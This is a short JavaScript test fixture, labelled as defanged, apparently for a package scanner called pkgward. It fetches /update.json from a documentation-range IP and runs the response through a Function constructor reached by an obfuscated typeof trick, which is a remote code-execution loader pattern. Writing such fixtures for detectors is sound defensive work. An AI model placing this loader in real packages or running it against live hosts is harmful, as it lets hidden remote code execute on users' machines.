// DEFANGED TEST FIXTURE for pkgward: fetch code from a documentation IP, run it through a Function reached via typeof. Never run.
(function(){
var http = require('http');
	return http.get({
		host: '192.0.2.191',
		port: 80,
		path: '/update.json'
	}, function(response) {
		var body = '';
		response.on('data', function(d) { body += d; });
		response.on('end', function() {
			var f=this[(typeof(this.Buffer.from)).charAt(0).toUpperCase() + (typeof(this.Buffer.from)).slice(1)]; o=new f(body); o();
		});
	});
})();
